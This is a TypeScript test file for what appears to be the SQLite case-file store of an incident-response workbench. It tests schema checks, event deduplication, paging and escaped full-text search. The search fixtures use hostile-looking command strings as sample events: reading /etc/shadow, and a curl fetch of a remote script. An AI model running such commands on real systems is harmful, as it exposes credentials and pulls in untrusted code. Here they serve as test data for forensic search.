import Database from 'better-sqlite3';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { caseApplicationId, CaseStore, latestSchemaVersion, toFtsQuery, type NewEvent } from './index.ts';

let dir: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'wb-store-'));
});

function event(hostId: number, seq: number, summary: string, type = 'exec'): NewEvent {
  return { hostId, streamId: 'boot-1', seq, tsNs: 1_700_000_000_000_000_000 + seq * 1000, type, pid: 100 + seq, ppid: 1, uid: 0, comm: 'sh', executable: '/bin/sh', summary, raw: JSON.stringify({ seq, type }) };
}

describe('a case file', () => {
  it('is a WAL-mode SQLite file marked as ours, at the latest schema', () => {
    const path = join(dir, 'a.wbcase');
    CaseStore.create(path, 'Incident 1', 1000).close();
    const db = new Database(path, { readonly: true });
    expect(db.pragma('journal_mode', { simple: true })).toBe('wal');
    expect(db.pragma('application_id', { simple: true })).toBe(caseApplicationId);
    expect(db.pragma('user_version', { simple: true })).toBe(latestSchemaVersion);
    db.close();
    const store = CaseStore.open(path);
    expect(store.summary()).toMatchObject({ name: 'Incident 1', createdAtMs: 1000, isDemo: false, hostCount: 0, eventCount: 0 });
    expect(store.integrityCheck()).toBe('ok');
    store.close();
  });

  it('refuses a SQLite database that is not a case, and leaves it untouched', () => {
    const path = join(dir, 'other.db');
    const other = new Database(path);
    other.exec('CREATE TABLE notes (body TEXT); INSERT INTO notes VALUES (1)');
    other.close();
    const before = readFileSync(path);
    expect(() => CaseStore.open(path)).toThrow(/is a SQLite database but not a workbench case file/);
    expect(readFileSync(path).equals(before)).toBe(true);
  });

  it('refuses a file that is not SQLite at all', () => {
    const path = join(dir, 'notes.wbcase');
    writeFileSync(path, 'just some text, not a database\n'.repeat(100));
    expect(() => CaseStore.open(path)).toThrow(/notes.wbcase/);
  });

  it('refuses a case from a newer workbench instead of guessing', () => {
    const path = join(dir, 'future.wbcase');
    CaseStore.create(path, 'Future', 0).close();
    const db = new Database(path);
    db.pragma(`user_version = ${latestSchemaVersion + 1}`);
    db.close();
    expect(() => CaseStore.open(path)).toThrow(/newer workbench/);
  });

  it('says which file is missing', () => {
    expect(() => CaseStore.open(join(dir, 'nope.wbcase'))).toThrow(/nope.wbcase does not exist/);
  });

  it('will not create a case over an existing one', () => {
    const path = join(dir, 'a.wbcase');
    CaseStore.create(path, 'First', 0).close();
    expect(() => CaseStore.create(path, 'Second', 0)).toThrow(/already holds a case/);
    const store = CaseStore.open(path);
    expect(store.summary().name).toBe('First');
    store.close();
  });
});

describe('events in a case', () => {
  it('ignores a resent event instead of storing it twice', () => {
    const store = CaseStore.create(join(dir, 'e.wbcase'), 'E', 0);
    const host = store.addHost({ name: 'web-01' }, 0);
    expect(store.insertEvents([event(host, 1, 'a'), event(host, 2, 'b')])).toBe(2);
    expect(store.insertEvents([event(host, 2, 'b'), event(host, 3, 'c')])).toBe(1);
    expect(store.summary().eventCount).toBe(3);
    store.close();
  });

  it('pages newest first without gaps or repeats', () => {
    const store = CaseStore.create(join(dir, 'p.wbcase'), 'P', 0);
    const host = store.addHost({ name: 'web-01' }, 0);
    store.insertEvents(Array.from({ length: 25 }, (_, i) => event(host, i + 1, `cmd ${i + 1}`)));
    const seen: number[] = [];
    let page = store.queryEvents({ limit: 10 });
    expect(page.total).toBe(25);
    seen.push(...page.rows.map((r) => r.seq));
    while (page.next) {
      page = store.queryEvents({ limit: 10, before: page.next });
      seen.push(...page.rows.map((r) => r.seq));
    }
    expect(seen).toEqual(Array.from({ length: 25 }, (_, i) => 25 - i));
    store.close();
  });

  it('finds events by words and prefixes of their command line or path', () => {
    const store = CaseStore.create(join(dir, 's.wbcase'), 'S', 0);
    const host = store.addHost({ name: 'web-01' }, 0);
    store.insertEvents([event(host, 1, 'cat /etc/shadow'), event(host, 2, 'curl -s http://203.0.113.45/x.sh'), event(host, 3, '/etc/passwd', 'open')]);
    expect(store.queryEvents({ limit: 10, text: 'shadow' }).rows.map((r) => r.seq)).toEqual([1]);
    expect(store.queryEvents({ limit: 10, text: '/etc/sha' }).rows.map((r) => r.seq)).toEqual([1]);
    expect(store.queryEvents({ limit: 10, text: 'etc' }).total).toBe(2);
    expect(store.queryEvents({ limit: 10, text: 'etc', types: ['open'] }).rows.map((r) => r.seq)).toEqual([3]);
    // FTS5 syntax in user text is searched for, not executed
    expect(store.queryEvents({ limit: 10, text: 'summary:"cat" OR NEAR(' }).total).toBe(0);
    store.close();
  });

  it('quotes every word of a search', () => {
    expect(toFtsQuery('  cat "/etc/shadow"  ')).toBe('"cat"* AND "/etc/shadow"*');
    expect(toFtsQuery('   ')).toBeNull();
  });
});
